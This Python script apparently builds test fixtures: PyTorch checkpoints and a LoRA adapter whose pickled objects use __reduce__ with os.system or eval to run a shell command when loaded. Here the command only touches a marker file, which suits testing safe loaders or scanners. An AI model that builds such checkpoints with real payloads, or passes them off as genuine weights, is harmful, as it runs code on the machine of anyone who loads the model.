# Writes hostile PyTorch checkpoints with CPython's own pickle (and torch.save when torch imports): objects whose
# __reduce__ returns os.system / builtins.eval, as a malicious checkpoint does. NOTHING IS EXECUTED HERE:
# pickling only records the callable and its arguments; only unpickling (pickle.load / torch.load) would call them.
# Usage: /usr/bin/python3 hostile-pt.py <out-dir> <marker-path>   (prints the files written, one per line)
import json
import os
import pickle
import sys
import zipfile

out, marker = sys.argv[1], sys.argv[2]
SHELL = f"touch {marker}"


class RunsShell:
    def __reduce__(self):
        return (os.system, (SHELL,))


class Evals:
    def __reduce__(self):
        return (eval, (f"__import__('os').system({SHELL!r})",))


written = []


def plain_zip(name, obj, protocol):
    # The torch zip layout around a data.pkl written by the real pickle module (no tensors needed).
    path = os.path.join(out, name)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps(obj, protocol=protocol))
        z.writestr("archive/version", "3\n")
    written.append(name)


plain_zip("system-p2.pt", {"step": 1, "config": RunsShell()}, 2)
plain_zip("eval-p4.pt", {"step": 1, "hook": Evals()}, 4)

try:
    import torch
except ImportError:
    torch = None

if torch is not None:
    sd = {"weight": torch.zeros(2, 3), "config": RunsShell(), "hook": Evals()}
    torch.save(sd, os.path.join(out, "torch-zip.pt"))
    torch.save(sd, os.path.join(out, "torch-legacy.pt"), _use_new_zipfile_serialization=False)
    written += ["torch-zip.pt", "torch-legacy.pt"]
    adapter = os.path.join(out, "adapter")
    os.makedirs(adapter, exist_ok=True)
    lora = {
        "base_model.model.q_proj.lora_A.weight": torch.ones(2, 4),
        "base_model.model.q_proj.lora_B.weight": torch.ones(4, 2),
        "base_model.model.q_proj.lora_B.hook": RunsShell(),
    }
    torch.save(lora, os.path.join(adapter, "adapter_model.bin"))
    cfg = {"peft_type": "LORA", "r": 2, "lora_alpha": 4, "target_modules": ["q_proj"], "task_type": None}
    with open(os.path.join(adapter, "adapter_config.json"), "w") as f:
        json.dump(cfg, f)
    written.append("adapter")

print("\n".join(written))
